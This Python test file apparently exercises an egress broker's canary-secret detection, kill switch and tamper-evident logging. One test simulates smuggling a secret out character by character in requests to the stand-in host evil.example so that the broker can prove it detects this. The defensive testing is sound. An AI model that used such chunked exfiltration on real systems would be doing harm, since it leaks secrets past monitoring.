def test_a_canary_is_seen_wherever_it_stands_in_a_request(raw: bytes) -> None:
    async def story() -> None:
        canaries = {"key": SECRET, "other": "never-sent-anywhere"}
        async with world(canaries=canaries) as here:
            await here.once(raw)
            assert here.last["canaries"] == ["key"]
            written = json.dumps(here.records)
            if SECRET.encode() not in raw.split(b"\r\n")[0]:
                assert SECRET not in written
            await here.works()
            assert here.last["canaries"] == []

    run(story())


def test_a_canary_in_an_answer_is_on_record_apart() -> None:
    async def gives(request: HttpRequest) -> HttpResponse:
        return HttpResponse(status=200, body=json.dumps({"key": SECRET}).encode())

    async def story() -> None:
        async with world(handlers={SERVICE: gives}, canaries={"k": SECRET}) as here:
            await here.once(get(f"http://{SERVICE}/"))
            assert here.last["canaries"] == []
            assert here.last["response_canaries"] == ["k"]

    run(story())


def test_a_canary_in_pieces_over_several_requests_is_seen_when_complete() -> None:
    async def story() -> None:
        async with world(canaries={"k": SECRET}) as here:
            session = await here.connect()
            text = base64.b64encode(f"head {SECRET} tail".encode()).decode()
            for char in text:
                await session.ask(get("http://evil.example/", method="POST", body=char.encode()))
            seen = [record["canaries"] for record in here.of("net.request")]
            assert seen.count(["k"]) == 1
            for char in SECRET:
                await session.ask(get(f"http://evil.example/x?id=7&d={char}"))
            seen = [record["canaries"] for record in here.of("net.request")]
            assert seen.count(["k"]) == 2
            await session.ask(get("http://evil.example/harmless"))
            assert here.last["canaries"] == []

    run(story())


def test_a_coding_that_cannot_be_searched_is_said_so() -> None:
    async def story() -> None:
        async with world(canaries={"k": SECRET}) as here:
            raw = get(f"http://{SERVICE}/", "Content-Encoding: br", method="POST", body=b"\x0b")
            await here.once(raw)
            assert here.last["unsearched"] == "br"

    run(story())


# -- the cut ---------------------------------------------------------------------------------------


def test_after_the_cut_nothing_connects_nothing_arrives_and_all_is_on_record() -> None:
    started = asyncio.Event()
    finished: list[str] = []

    async def slow(request: HttpRequest) -> HttpResponse:
        started.set()
        await asyncio.sleep(0.3)
        finished.append(request.target)
        return HttpResponse(status=200)

    async def story() -> None:
        async with world(handlers={SERVICE: slow}) as here:
            idle, busy = await here.connect(), await here.connect()
            await busy.send(get(f"http://{SERVICE}/side-effect"))
            await started.wait()
            receipt = here.broker.cut()
            assert (receipt.listeners, receipt.connections, receipt.in_flight) == (1, 2, 1)
            assert receipt.took_us < 100_000
            with pytest.raises(ConnectionRefusedError):
                await asyncio.open_connection("127.0.0.1", here.port)
            assert await idle.ended()
            assert await busy.ended()
            assert here.broker.cut() is receipt
            await asyncio.sleep(0.4)
            assert finished == []
            assert here.of("net.cut") == [dict(receipt.as_json())]
            assert (here.last["decision"], here.last["reason"]) == ("allowed", "cut")
            listener = socket.create_server(("127.0.0.1", 0))
            with pytest.raises(RuntimeError, match="cut"):
                await here.broker.serve(listener.detach())

    run(story())


def test_the_cut_holds_although_a_copy_of_the_listener_is_kept_open() -> None:
    async def story() -> None:
        records: list[str] = []
        broker = Broker(handlers={}, policy=POLICY, record=lambda kind, _: records.append(kind))
        listener = socket.create_server(("127.0.0.1", 0))
        port = listener.getsockname()[1]
        await broker.serve(os.dup(listener.fileno()))
        # Not accepted yet when the cut comes: it must not hang in the queue of the copy.
        waiting = socket.create_connection(("127.0.0.1", port))
        broker.cut()
        waiting.settimeout(2)
        with contextlib.suppress(ConnectionResetError):
            assert waiting.recv(1) == b""
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection(("127.0.0.1", port), timeout=2)
        await broker.close()
        waiting.close()
        listener.close()

    run(story())


def test_the_cut_works_from_another_thread_while_the_event_loop_is_stuck() -> None:
    stuck, release = threading.Event(), threading.Event()
    refused: list[bool] = []
    ended: list[bool] = []
    counted: list[bool] = []

    async def blocks(request: HttpRequest) -> HttpResponse:
        stuck.set()
        release.wait(10)  # a service that never yields
        return HttpResponse(status=200, body=b"too late")

    async def story() -> bytes:
        async with world(handlers={SERVICE: blocks}) as here:

            def stop() -> None:
                stuck.wait(10)
                receipt = here.broker.cut()
                if (receipt.in_flight, receipt.connections) == (1, 2):
                    counted.append(True)
                try:
                    if bystander.recv(1) == b"":
                        ended.append(True)
                except ConnectionResetError:
                    ended.append(True)
                try:
                    socket.create_connection(("127.0.0.1", here.port), timeout=2).close()
                except ConnectionRefusedError:
                    refused.append(True)
                release.set()

            session = await here.connect()
            bystander = socket.create_connection(("127.0.0.1", here.port))
            bystander.settimeout(2)
            async with asyncio.timeout(5):
                while len(here.broker._clients) < 2:
                    await asyncio.sleep(0.005)
            thread = threading.Thread(target=stop)
            thread.start()
            await session.send(get(f"http://{SERVICE}/"))
            try:
                said = await session.reader.read()
            except ConnectionError:
                said = b""
            thread.join()
            bystander.close()
            await here.settled("net.cut")
            await here.settled("net.request")
            assert here.last["reason"] == "cut"
            return said

    assert run(story()) == b""
    assert refused == ended == counted == [True]


def test_a_cut_before_serving_and_after_closing_is_a_receipt_all_the_same() -> None:
    async def story() -> None:
        broker = Broker(handlers={}, policy=POLICY, record=lambda *_: None)
        assert broker.cut().listeners == 0
        await broker.close()
        await broker.close()

    run(story())


# -- the record ------------------------------------------------------------------------------------


def test_a_broker_that_cannot_record_answers_nothing_and_cuts_itself_off() -> None:
    async def story() -> None:
        def full(kind: str, data: JsonObject) -> None:
            raise OSError(28, "No space left on device")

        async def service(request: HttpRequest) -> HttpResponse:
            return HttpResponse(status=200, body=b"answer")

        broker = Broker(handlers={SERVICE: service}, policy=POLICY, record=full)
        listener = socket.create_server(("127.0.0.1", 0))
        port = listener.getsockname()[1]
        await broker.serve(listener.detach())
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(get(f"http://{SERVICE}/"))
        try:
            assert await reader.read() == b""
        except ConnectionError:
            pass
        with pytest.raises(ConnectionRefusedError):
            await asyncio.open_connection("127.0.0.1", port)
        assert broker.record_failed
        await broker.close()
        writer.transport.abort()

    run(story())


def test_requests_left_in_the_middle_are_on_record() -> None:
    async def story() -> None:
        async with world(canaries={"k": SECRET}) as here:
            session = await here.connect()
            await session.send(get(f"http://{SERVICE}/", "Content-Length: 900", method="POST"))
            await session.send(SECRET.encode())
            await asyncio.sleep(0.05)
            session.close()
            await here.settled("net.request")
            assert here.last["canaries"] == ["k"]
            assert here.last["decision"] == "refused"
            half = await here.connect()
            await half.send(b"GET http://")
            half.writer.write_eof()
            await here.settled("net.request", 2)
            assert here.last["reason"] == "incomplete"

    run(story())


def test_the_chained_log_serves_as_record(tmp_path: Path) -> None:
    path = tmp_path / "net.jsonl"
    log = BrokerLog(path)

    async def story() -> None:
        broker = Broker(handlers={}, policy=POLICY, record=log)
        listener = socket.create_server(("127.0.0.1", 0))
        port = listener.getsockname()[1]
        await broker.serve(listener.detach())
        here = World(broker, port, [], [])
        for _ in range(10):
            await here.once(get("http://elsewhere/"))
        broker.cut()
        await broker.close()

    run(story())
    head = log.close()
    verified = verify_broker_log(path, expected=head)
    assert verified.closed
    assert [kind for kind, _ in verified.events] == ["net.request"] * 10 + [
        "net.cut",
        "net.summary",
    ]


# -- noise -----------------------------------------------------------------------------------------

FRAGMENTS = st.sampled_from(
    [
        b"GET ",
        b"POST ",
        b"CONNECT ",
        f"http://{SERVICE}/".encode(),
        b"http://",
        b"/",
        b" HTTP/1.1\r\n",
        b" HTTP/1.0\r\n",
        f"Host: {SERVICE}\r\n".encode(),
        b"Content-Length: 3\r\n",
        b"Content-Length: 99999999999999999999\r\n",
        b"Transfer-Encoding: chunked\r\n",
        b"Expect: 100-continue\r\n",
        b"Connection: close\r\n",
        b"\r\n",
        b"\n",
        b"\r",
        b"0\r\n\r\n",
        b"5\r\nhello\r\n",
        b"\x00",
        b"\x16\x03\x01",
        b"\xff\xfe",
        b"%2e%2e/",
        b"@",
        b"[::1]",
    ]
)
NOISE = st.lists(st.one_of(FRAGMENTS, st.binary(max_size=40)), max_size=12).map(b"".join)


@settings(max_examples=10)
@given(batch=st.lists(NOISE, min_size=15, max_size=15))
def test_noise_never_stops_the_broker_nor_reaches_another_destination(batch: list[bytes]) -> None:
    policy = EgressPolicy(
        allow=(AllowRule(host=SERVICE),), head_timeout_ms=500, idle_timeout_ms=500
    )

    async def story() -> None:
        async with world(policy=policy, canaries={"k": SECRET}) as here:
            for noise in batch:
                session = await here.connect()
                with contextlib.suppress(ConnectionError):
                    await session.send(noise)
                    session.writer.write_eof()
                    said = await session.reader.read()
                    assert said == b"" or said.startswith(b"HTTP/1.1 ")
                session.close()
            assert await here.works()
            assert not here.of("service.error")
            assert not here.broker.record_failed
            assert {request.host for request in here.asked} == {SERVICE}
            assert len(here.of("net.request")) == here.broker.requests
            assert len(here.of("net.request")) >= sum(map(bool, batch))

    run(story())
